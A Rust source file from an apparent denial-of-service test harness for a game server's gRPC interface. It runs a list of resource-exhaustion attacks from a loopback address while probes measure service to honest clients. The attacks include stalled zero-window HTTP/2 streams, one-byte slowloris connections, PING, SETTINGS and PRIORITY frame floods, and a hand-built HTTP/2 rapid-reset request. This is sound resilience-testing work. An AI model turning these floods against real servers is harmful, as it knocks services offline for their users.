//! The attacks: each is one client without any right, at an address of its own, that does something
//! for the time of the attack and holds on to what it gets.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use chefshat_proto::v1::{
    self, record_service_client::RecordServiceClient, room_service_client::RoomServiceClient,
    rule_set::Stop, seat_config::FilledBy, tournament_service_client::TournamentServiceClient,
};
use futures::future::BoxFuture;
use futures::{FutureExt as _, StreamExt as _, stream};
use rand::RngExt as _;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep_until, timeout_at};
use tonic::Status;
use tonic::transport::Channel;

use crate::honest;
use crate::probe::{Probe, newest_record};
use crate::raw;
use crate::tally::Tally;

/// The attacker's address.
const ATTACKER: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 2));
/// Shifts of a long game: the most that a server allows.
const LONG: u32 = 1_000;
/// Calls that an attacker has in flight.
const IN_FLIGHT: usize = 64;

/// An attack.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Attack {
    /// Its name on the command line.
    pub(crate) name: &'static str,
    /// What the attacker does.
    pub(crate) what: &'static str,
    /// What others want meanwhile.
    pub(crate) probe: Probe,
    /// Options of the server that make the attack possible.
    pub(crate) flags: &'static [&'static str],
    /// Most file descriptors of the server, if it has fewer than usual.
    pub(crate) descriptors: Option<u32>,
    /// What the server is filled with before the honest room starts.
    pub(crate) prepare: Option<Act>,
    /// The attack itself.
    pub(crate) act: Act,
}

/// Something an attacker does.
pub(crate) type Act = fn(Target) -> BoxFuture<'static, Result<(), Status>>;

/// What is attacked, and for how long.
#[derive(Debug, Clone)]
pub(crate) struct Target {
    /// The server.
    pub(crate) address: SocketAddr,
    /// The end of the attack. What was granted is held until then.
    pub(crate) until: Instant,
    /// All counts are divided by this.
    pub(crate) divide: u32,
    /// What comes of it.
    pub(crate) tally: Arc<Tally>,
}

impl Target {
    fn count(&self, of: u32) -> u32 {
        (of / self.divide).max(1)
    }

    async fn channel(&self) -> Result<Channel, Status> {
        let url = format!("http://{}", self.address);
        let connecting = honest::channel(&url, Some(ATTACKER));
        match timeout_at(self.until, connecting).await {
            Ok(Ok(channel)) => Ok(channel),
            _ => {
                self.tally.lost();
                Err(Status::unavailable("no connection"))
            }
        }
    }

    /// Makes calls one after another until the end of the attack, on each of several connections.
    async fn call_all<F, T>(
        &self,
        connections: u32,
        calls: u32,
        call: impl Fn(Channel) -> F + Clone + Send + Sync + 'static,
    ) where
        F: Future<Output = Result<T, Status>> + Send,
        T: Send,
    {
        let mut callers = JoinSet::new();
        for _ in 0..self.count(connections) {
            let (target, call) = (self.clone(), call.clone());
            callers.spawn(async move {
                let Ok(channel) = target.channel().await else {
                    return;
                };
                let calls = stream::iter(0..target.count(calls)).map(|_| {
                    let called = call(channel.clone());
                    target.tally.tried(1);
                    async {
                        target.tally.outcome(&called.await);
                    }
                });
                let all = calls.buffer_unordered(IN_FLIGHT).for_each(|()| async {});
                // Those that are still waited for at the end are neither granted nor refused.
                let _ = timeout_at(target.until, all).await;
            });
        }
        let _ = timeout_at(self.until, async {
            while callers.join_next().await.is_some() {}
        })
        .await;
        sleep_until(self.until).await;
    }

    /// Opens many streams on many connections, whose windows stay closed, and holds them.
    async fn hold_streams(
        &self,
        connections: u32,
        streams: u32,
        method: &'static str,
        body: Option<Bytes>,
    ) {
        let mut opening = JoinSet::new();
        for _ in 0..self.count(connections) {
            let (target, body) = (self.clone(), body.clone());
            opening.spawn(async move {
                let window = 0;
                let connected = raw::http2(target.address, ATTACKER, window);
                let Ok(Ok(sender)) = timeout_at(target.until, connected).await else {
                    return target.tally.lost();
                };
                let opened = (0..target.count(streams))
                    .map(|_| raw::open(&sender, method, body.clone(), &target.tally));
                let opened: Vec<_> = opened.map(|open| timeout_at(target.until, open)).collect();
                let _held = futures::future::join_all(opened).await;
                sleep_until(target.until).await;
            });
        }
        let _ = opening.join_all().await;
    }

    /// Floods the server with frames on several connections, which are opened again when the
    /// server closes them.
    async fn flood(&self, next: fn(u32) -> Vec<u8>) {
        let mut floods = JoinSet::new();
        for _ in 0..self.count(4) {
            let target = self.clone();
            floods.spawn(async move {
                let flooding = async {
                    loop {
                        raw::flood(target.address, ATTACKER, &target.tally, next).await;
                        tokio::time::sleep(Duration::from_millis(10)).await;
                    }
                };
                let _ = timeout_at(target.until, flooding).await;
            });
        }
        floods.join_all().await;
    }
}

/// A room whose seats are all filled by this agent, or open.
fn room(built_in: bool, shifts: u32) -> v1::CreateRoomRequest {
    v1::CreateRoomRequest {
        name: "hostile".into(),
        rules: Some(v1::RuleSet {
            stop: Some(Stop::TargetShifts(shifts)),
            ..v1::RuleSet::default()
        }),
        seats: (0..4)
            .map(|_| v1::SeatConfig {
                filled_by: built_in.then(|| FilledBy::BuiltInAgent("random".into())),
                ..v1::SeatConfig::default()
            })
            .collect(),
        ..v1::CreateRoomRequest::default()
    }
}

fn tournament(built_in: usize) -> v1::CreateTournamentRequest {
    v1::CreateTournamentRequest {
        settings: Some(v1::TournamentSettings {
            name: "hostile".into(),
            format: v1::TournamentFormat::RoundRobin.into(),
            rules: Some(v1::RuleSet {
                stop: Some(Stop::TargetShifts(LONG)),
                ..v1::RuleSet::default()
            }),
            rounds: 63,
            built_in_agents: vec!["random".into(); built_in],
            start_when_joined: u32::try_from(built_in).unwrap_or_default(),
            ..v1::TournamentSettings::default()
        }),
        ..v1::CreateTournamentRequest::default()
    }
}

async fn create_rooms(target: &Target, connections: u32, each: u32, built_in: bool, shifts: u32) {
    let call = move |channel| async move {
        let request = room(built_in, shifts);
        RoomServiceClient::new(channel).create_room(request).await
    };
    target.call_all(connections, each, call).await;
}

async fn list_rooms(channel: Channel) -> Result<(), Status> {
    let request = v1::ListRoomsRequest {
        page_size: 100,
        ..v1::ListRoomsRequest::default()
    };
    RoomServiceClient::new(channel).list_rooms(request).await?;
    Ok(())
}

/// Rooms to be listed.
fn some_rooms(target: Target) -> BoxFuture<'static, Result<(), Status>> {
    async move {
        let channel = target.channel().await?;
        for _ in 0..100 {
            let request = room(false, 1);
            RoomServiceClient::new(channel.clone())
                .create_room(request)
                .await?;
        }
        Ok(())
    }
    .boxed()
}

/// A long record to be read.
fn a_record(target: Target) -> BoxFuture<'static, Result<(), Status>> {
    async move {
        let channel = target.channel().await?;
        RoomServiceClient::new(channel.clone())
            .create_room(room(true, target.count(50)))
            .await?;
        let mut records = RecordServiceClient::new(channel);
        loop {
            match newest_record(&mut records, "hostile").await {
                Ok(_) => return Ok(()),
                Err(_) => tokio::time::sleep(Duration::from_millis(50)).await,
            }
        }
    }
    .boxed()
}

/// Connections that send one byte and hold their socket.
async fn one_byte_connections(target: &Target, connections: u32) {
    let opening = stream::iter(0..target.count(connections)).map(|_| async {
        target.tally.tried(1);
        match raw::connect(target.address, ATTACKER).await {
            Ok(mut stream) => {
                use tokio::io::AsyncWriteExt as _;
                let _ = stream.write_all(b"P").await;
                Some(stream)
            }
            Err(_) => None,
        }
    });
    let mut held = Vec::new();
    let opening = opening.buffer_unordered(IN_FLIGHT).for_each(|stream| {
        held.extend(stream);
        async {}
    });
    let _ = timeout_at(target.until, opening).await;
    // A little before the end, to see which of them the server has closed.
    sleep_until(target.until - Duration::from_millis(200)).await;
    for stream in &held {
        let mut byte = [0];
        match stream.try_read(&mut byte) {
            Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => {
                target.tally.granted(1);
            }
            _ => target.tally.refusal("CONNECTION_CLOSED"),
        }
    }
    sleep_until(target.until).await;
}

/// The request of a rapid reset: headers that hyper accepts, followed by RST_STREAM.
fn reset_at_once(number: u32) -> Vec<u8> {
    let stream = (2 * number + 1) & 0x7fff_ffff;
    let path = b"/chefshat.v1.RoomService/ListRooms";
    let mut headers = vec![0x83, 0x86, 0x44, u8::try_from(path.len()).expect("short")];
    headers.extend(path);
    headers.extend([0x41, 9]);
    headers.extend(b"localhost");
    let mut frames = raw::frame(1, 4, stream, &headers);
    frames.extend(raw::frame(3, 0, stream, &8_u32.to_be_bytes()));
    frames
}

macro_rules! attack {
    ($name:literal, $what:literal, $probe:ident, |$target:ident| $act:expr $(, $field:ident: $value:expr)*) => {
        Attack {
            act: |$target| async move { $act; Ok(()) }.boxed(),
            $($field: $value,)*
            ..Attack {
                name: $name,
                what: $what,
                probe: Probe::$probe,
                flags: &[],
                descriptors: None,
                prepare: None,
                act: |_| async { Ok(()) }.boxed(),
            }
        }
    };
}

/// All attacks.
pub(crate) static ATTACKS: &[Attack] = &[
    attack!(
        "built-in-tournament",
        "one request: a tournament of 64 built-in agents, 1,000 Shifts a game",
        CreateTournament,
        |target| {
            let agents = usize::try_from(target.count(64)).unwrap_or(1).max(4);
            let call = move |channel| async move {
                let request = tournament(agents);
                TournamentServiceClient::new(channel)
                    .create_tournament(request)
                    .await
            };
            target.call_all(1, 1, call).await
        }
    ),
    attack!(
        "built-in-rooms",
        "1,000 rooms of built-in agents, 1,000 Shifts a game",
        ListRooms,
        |target| create_rooms(&target, 1, 1_000, true, LONG).await
    ),
    attack!(
        "short-built-in-games",
        "games of built-in agents of one Shift, one after another",
        ListRooms,
        |target| create_rooms(&target, 8, 1_000_000, true, 1).await
    ),
    attack!(
        "list-rooms-stalled",
        "ListRooms with 100 rooms on 20 connections x 1,000 streams with a window of 0",
        ListRooms,
        |target| {
            let request = v1::ListRoomsRequest { page_size: 100, ..Default::default() };
            let body = raw::framed(&request);
            target.hold_streams(20, 1_000, "RoomService/ListRooms", Some(body)).await
        },
        prepare: Some(some_rooms)
    ),
    attack!(
        "list-rooms-flood",
        "ListRooms with 100 rooms as fast as possible on 20 connections",
        ListRooms,
        |target| target.call_all(20, 1_000_000, list_rooms).await,
        prepare: Some(some_rooms)
    ),
    attack!(
        "silent-play-streams",
        "Play on 100 connections x 1,000 streams without a message",
        ListRooms,
        |target| target
            .hold_streams(100, 1_000, "PlayService/Play", None)
            .await
    ),
    attack!(
        "waiting-rooms",
        "20,000 rooms that nobody joins",
        ListRooms,
        |target| create_rooms(&target, 8, 2_500, false, 1).await
    ),
    attack!(
        "waiting-tournaments",
        "1,000 tournaments that nobody joins",
        CreateTournament,
        |target| {
            let call = |channel| async move {
                let request = tournament(0);
                TournamentServiceClient::new(channel)
                    .create_tournament(request)
                    .await
            };
            target.call_all(1, 1_000, call).await
        }
    ),
    attack!(
        "idle-vector-streams",
        "512 vector streams without a setup",
        StartVector,
        |target| target.hold_streams(4, 128, "VectorService/Run", None).await
    ),
    attack!(
        "slow-record-readers",
        "256 readers of a long record with a window of 0",
        ReadRecord,
        |target| {
            let mut records = RecordServiceClient::new(target.channel().await?);
            let game_id = newest_record(&mut records, "hostile").await?;
            let body = raw::framed(&v1::GetRecordRequest { game_id });
            target.hold_streams(4, 64, "RecordService/GetRecord", Some(body)).await
        },
        prepare: Some(a_record)
    ),
    attack!(
        "endless-imports",
        "64 imports that send nothing",
        ImportRecord,
        |target| target.hold_streams(4, 16, "RecordService/ImportRecord", None).await,
        flags: &["--allow-import"]
    ),
    attack!(
        "one-byte-connections",
        "15,000 connections that send one byte",
        ListRooms,
        |target| one_byte_connections(&target, 15_000).await
    ),
    attack!(
        "few-descriptors",
        "1,000 connections that send one byte, to a server with 256 file descriptors",
        ListRooms,
        |target| one_byte_connections(&target, 1_000).await,
        descriptors: Some(256)
    ),
    attack!(
        "join-codes",
        "GetRoom with random join codes as fast as possible",
        ListRooms,
        |target| {
            let call = |channel| async move {
                let code: [u8; 6] = std::array::from_fn(|_| rand::rng().random_range(b'A'..=b'Z'));
                let join_code = String::from_utf8_lossy(&code).into_owned();
                let request = v1::GetRoomRequest { join_code, ..Default::default() };
                RoomServiceClient::new(channel).get_room(request).await
            };
            target.call_all(8, 1_000_000, call).await
        },
        prepare: Some(some_rooms)
    ),
    attack!(
        "ping-flood",
        "PING frames on 4 connections as fast as possible",
        ListRooms,
        |target| target.flood(|_| raw::frame(6, 0, 0, &[0; 8])).await
    ),
    attack!(
        "settings-flood",
        "SETTINGS frames on 4 connections as fast as possible",
        ListRooms,
        |target| target.flood(|_| raw::frame(4, 0, 0, &[])).await
    ),
    attack!(
        "priority-flood",
        "PRIORITY frames on 4 connections as fast as possible",
        ListRooms,
        |target| target
            .flood(|_| raw::frame(2, 0, 1, &[0, 0, 0, 0, 16]))
            .await
    ),
    attack!(
        "rapid-reset",
        "streams that are reset at once on 4 connections as fast as possible",
        ListRooms,
        |target| target.flood(reset_at_once).await
    ),
];
